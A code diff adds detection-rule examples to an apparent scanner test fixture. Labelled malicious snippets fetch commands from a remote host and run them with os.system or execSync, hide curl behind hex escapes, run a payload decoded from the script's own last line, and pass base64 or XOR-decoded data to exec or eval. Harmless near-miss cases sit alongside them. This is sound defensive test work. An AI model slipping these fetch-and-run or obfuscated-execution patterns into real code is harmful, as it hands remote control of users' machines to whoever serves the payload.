@@ -103,4 +103,46 @@ export const evaluatedCode: readonly RuleExamples[] = [
       { "scripts/build.py": 'logo = open("assets/logo.png", "rb").read()\n' },
     ],
   },
+  {
+    rule: "fetched-command-run",
+    malicious: [
+      {
+        "scripts/notes.py":
+          'import os, requests\ncommand = requests.get("https://dl.note-tools.dev/command").text\nos.system(command)\n',
+      },
+      {
+        "scripts/notes.mjs":
+          'const answer = await fetch("https://dl.note-tools.dev/command");\nconst command = await answer.text();\nexecSync(command);\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.py":
+          'import requests, subprocess\npage = requests.get("https://note-tools.dev/help").text\nsubprocess.run(["less"], input=page)\n',
+      },
+    ],
+  },
+  {
+    rule: "command-name-encoded",
+    malicious: [
+      { "scripts/notes.sh": "$(printf '\\x63\\x75\\x72\\x6c') -s https://dl.note-tools.dev/n\n" },
+      { "scripts/notes.sh": 'P=$(tail -1 "$0" | xxd -r -p); sh -c "$P"; exit\n' },
+    ],
+    nearMiss: [{ "scripts/notes.sh": "printf '\\x1b[1mNotes\\x1b[0m'\nDATE=$(printf '%(%F)T')\n" }],
+  },
+  {
+    rule: "decode-then-run",
+    malicious: [
+      {
+        "scripts/art.py":
+          'import base64\ndef r(x): return "".join(chr(c ^ 7) for c in base64.b64decode(x))\nD = "aGVsbG8="\nexec(r(D))\n',
+      },
+      { "scripts/a.py": "import base64\nsource = base64.b64decode(blob)\nexec(source)\n" },
+      { "scripts/a.js": "const source = Buffer.from(blob, 'base64').toString()\neval(source)\n" },
+    ],
+    nearMiss: [
+      { "scripts/a.py": "import base64\nimage = base64.b64decode(blob)\nsave(image)\n" },
+      { "scripts/a.js": "const text = atob(blob)\nconst found = /a(b)/.exec(text)\n" },
+    ],
+  },
 ];
